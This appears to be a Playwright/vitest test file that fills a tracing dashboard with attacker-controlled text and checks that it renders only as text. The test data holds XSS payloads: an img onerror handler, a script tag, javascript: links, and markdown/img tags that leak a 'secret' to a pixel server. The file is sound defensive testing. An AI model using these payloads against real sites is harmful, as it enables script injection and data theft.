/// <reference lib="dom" />
/// <reference lib="dom.iterable" />
/**
 * Attacker-controlled text in every field the dashboard renders (span name, input, output, metadata
 * keys and values, tags, user id, session id, error type and message): no script ever runs, no
 * dialog opens, no image loads (not even a remote pixel), and no link has a non-http(s) scheme.
 * The payloads still appear, as text.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TraceDetail } from '@wisp/protocol';
import type { Page as PwPage } from 'playwright-core';
import type { TestServer } from '../../packages/server/src/testing/test-server.js';
import { launchChromium, openPage, sdkFor, startPixelServer, startUiServer, waitForTraces, type Browser } from './ui-support.js';

describe('dashboard with hostile content', () => {
  let server: TestServer;
  let browser: Browser;
  let pixel: Awaited<ReturnType<typeof startPixelServer>>;
  let traceId: string;
  let payloads: { html: string; script: string; js: string; jsMixed: string; markdownImage: string; imgTag: string; all: string };

  beforeAll(async () => {
    server = await startUiServer();
    pixel = await startPixelServer();
    payloads = {
      html: '<img src=x onerror=window.__xss=1>',
      script: '<script>window.__xss=1</script>',
      js: 'javascript:window.__xss=1',
      jsMixed: ' JaVaScRiPt:window.__xss=1',
      markdownImage: `![x](${pixel.url}?leak=secret)`,
      imgTag: `<img src="${pixel.url}?tag=1">`,
      all: '',
    };
    payloads.all = `${payloads.html} ${payloads.script} [click](${payloads.js}) ${payloads.markdownImage} ${payloads.imgTag}`;
    const p = payloads;
    const wisp = sdkFor(server, `svc ${p.html}`);
    traceId = wisp.trace(
      p.html,
      (root) => {
        root.update({ input: { question: p.all, link: p.js, mixed: p.jsMixed, image: p.markdownImage, url: pixel.url }, metadata: { [p.html]: p.script, [p.js]: p.markdownImage } });
        const gen = wisp.startGeneration(p.script, { provider: p.html, model: p.imgTag });
        gen.end({
          input: [
            { role: 'system', content: p.all },
            { role: 'user', content: [{ type: 'text', text: p.markdownImage }, { type: 'image_url', image_url: { url: pixel.url } }] },
          ],
          output: { role: 'assistant', content: p.html, tool_calls: [{ id: p.js, type: 'function', function: { name: p.script, arguments: JSON.stringify({ q: p.imgTag }) } }] },
          usage: { input: 10, output: 5 },
        });
        const tool = wisp.startSpan(`[x](${p.js})`, { kind: 'tool', input: p.imgTag });
        const err = new Error(p.all);
        err.name = p.html;
        tool.end({ error: err, output: p.markdownImage });
        wisp.startSpan(p.markdownImage, { kind: 'retriever' }).end({ output: [{ [p.html]: p.js }] });
        return root.traceId;
      },
      { userId: p.html, sessionId: p.script, tags: [p.html, p.js, p.markdownImage], metadata: { [p.imgTag]: p.all } },
    );
    await wisp.shutdown(5_000);
    await waitForTraces(server, 1);
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await server?.dispose();
    await pixel?.close();
  });

  async function hostilePage() {
    const opened = await openPage(browser);
    const dialogs: string[] = [];
    const pixelRequests: string[] = [];
    opened.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    opened.page.on('request', (r) => {
      if (r.url().includes('/pixel.png') || r.url().endsWith('/x')) pixelRequests.push(r.url());
    });
    return { ...opened, dialogs, pixelRequests };
  }

  /** Everything that would show the attack worked, checked on the page as it is now. */
  async function assertSafe(page: PwPage, dialogs: string[], pixelRequests: string[]) {
    const state = await page.evaluate(() => ({
      xss: (window as unknown as { __xss?: unknown }).__xss,
      images: document.images.length,
      scripts: [...document.scripts].filter((s) => !s.src).length,
      hrefs: [...document.querySelectorAll('a[href]')].map((a) => (a as HTMLAnchorElement).href),
      blank: [...document.querySelectorAll('a[target=_blank]')].map((a) => a.getAttribute('rel') ?? ''),
      onAttrs: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
    }));
    expect(state.xss).toBeUndefined();
    expect(state.images).toBe(0);
    expect(state.scripts).toBe(0);
    expect(state.onAttrs).toBe(0);
    for (const href of state.hrefs) expect(href).toMatch(/^https?:\/\//);
    for (const rel of state.blank) expect(rel).toMatch(/noopener/);
    for (const rel of state.blank) expect(rel).toMatch(/noreferrer/);
    expect(dialogs).toEqual([]);
    expect(pixelRequests).toEqual([]);
    expect(pixel.hits()).toBe(0);
  }

  it('the traces table, its facets and filters render the payloads as text', async () => {
    const { page, context, errors, dialogs, pixelRequests } = await hostilePage();
    await page.goto(`${server.url}/traces`);
    await page.waitForSelector(`tr[data-trace-id="${traceId}"]`);
    const row = await page.innerText(`tr[data-trace-id="${traceId}"]`);
    expect(row).toContain(payloads.html); // name and user id, as text
    expect(row).toContain(payloads.script); // session id
    await page.waitForSelector(`[data-testid=facet-userId] option >> text=${payloads.html}`, { state: 'attached' });
    await page.goto(`${server.url}/traces?name=${encodeURIComponent(payloads.html)}&search=${encodeURIComponent(payloads.script)}&tags=${encodeURIComponent(payloads.js)}`);
    await page.waitForSelector('[data-testid=trace-table], [data-testid=empty-state]');
    await assertSafe(page, dialogs, pixelRequests);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('trace detail: every span, its panel, chat and JSON views render the payloads as text', async () => {
    const { page, context, errors, dialogs, pixelRequests } = await hostilePage();
    const api = (await (await fetch(`${server.url}/api/v1/traces/${traceId}`)).json()) as TraceDetail;
    await page.goto(`${server.url}/traces/${traceId}`);
    await page.waitForSelector('[data-testid=span-tree] [role=treeitem]');
    expect(await page.innerText('[data-testid=trace-name]')).toBe(payloads.html);
    await page.click('[data-testid=trace-metadata] summary');
    expect(await page.innerText('[data-testid=trace-metadata]')).toContain(payloads.imgTag); // a metadata key
    for (const o of api.observations) {
      await page.click(`[data-span-id="${o.spanId}"]`);
      await page.waitForSelector(`[data-testid=span-panel] >> text=${o.spanId}`);
      await page.waitForSelector('[data-testid=payload-output]');
      for (const button of await page.$$('[data-testid=span-panel] button:has-text("JSON")')) await button.click();
      for (const button of await page.$$('[data-testid=span-panel] .json-toggle[aria-expanded=false]')) await button.click();
      await assertSafe(page, dialogs, pixelRequests);
    }
    const panel = await page.innerText('[data-testid=span-panel]');
    expect(panel.length).toBeGreaterThan(0);
    const all = await page.innerText('body');
    expect(all).toContain(payloads.markdownImage);
    // The error of the tool span, as text.
    const tool = api.observations.find((o) => o.kind === 'tool')!;
    await page.click(`[data-span-id="${tool.spanId}"]`);
    await page.waitForSelector('[data-testid=span-error]');
    expect(await page.innerText('[data-testid=span-error]')).toContain(payloads.script);
    await assertSafe(page, dialogs, pixelRequests);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('sessions and monitor render the payloads as text', async () => {
    const { page, context, errors, dialogs, pixelRequests } = await hostilePage();
    await page.goto(`${server.url}/sessions`);
    await page.waitForSelector('[data-testid=session-table] tbody tr');
    expect(await page.innerText('[data-testid=session-table]')).toContain(payloads.script);
    await page.click(`[data-testid=session-table] a >> text=${payloads.script}`);
    await page.waitForSelector('[data-testid=conversation] li');
    expect(await page.innerText('[data-testid=session-id]')).toBe(payloads.script);
    await assertSafe(page, dialogs, pixelRequests);
    await page.goto(`${server.url}/monitor?range=1h`);
    await page.waitForSelector('[data-testid=totals], .state-error');
    await page.waitForLoadState('networkidle');
    await assertSafe(page, dialogs, pixelRequests);
    expect(errors).toEqual([]);
    await context.close();
  });
});
